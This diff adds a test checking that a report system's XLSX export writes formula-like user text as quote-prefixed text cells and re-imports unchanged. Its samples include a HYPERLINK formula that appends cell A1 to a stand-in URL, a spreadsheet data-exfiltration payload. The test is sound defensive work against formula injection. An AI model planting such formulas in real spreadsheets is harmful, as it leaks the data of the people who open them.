@@ -123,6 +123,39 @@ def test_xlsx_round_trip_is_identical(progress: World) -> None:
     assert _values(export_xlsx(report)) == sheets
 
 
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
+    "=> Đã tổ chức đoàn công tác sang tỉnh bạn.",
+    "+84 912 345 678: đầu mối liên hệ.",
+    "-  Đã ký biên bản ghi nhớ.\r\n-  Đã trao đổi đoàn.",
+    "@Sở Y tế: phối hợp.",
+)
+
+
+def test_xlsx_keeps_user_text_as_text_and_round_trips(progress: World) -> None:
+    """Texts that look like formulas are written as text cells, and an unedited export imports as no change."""
+    world = progress
+    report = open_report(world.bg, 2024, world.doc.plan)
+    reports = list(ProgressReport.objects.filter(occurrence__task__plan=world.doc.plan).order_by("id"))
+    for text, r in zip(HOSTILE_TEXTS, reports, strict=False):
+        r.text = text
+        r.save(update_fields=["text"])
+    report.title = "=1+1 báo cáo"
+    report.save(update_fields=["title"])
+    first = export_xlsx(report)
+    wb = load_workbook(io.BytesIO(first))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    for text in HOSTILE_TEXTS:
+        assert text in texts
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
+    before = ProgressReport.objects.count()
+    result = import_xlsx(first, "bang.xlsx", world.bg)
+    assert (result.texts, result.statuses) == (0, 0) and ProgressReport.objects.count() == before
+    assert _values(export_xlsx(report)) == _values(first)
+
+
 def test_xlsx_edits_come_back_exactly(progress: World) -> None:
     world = progress
     report = open_report(world.bg, 2024, world.doc.plan)
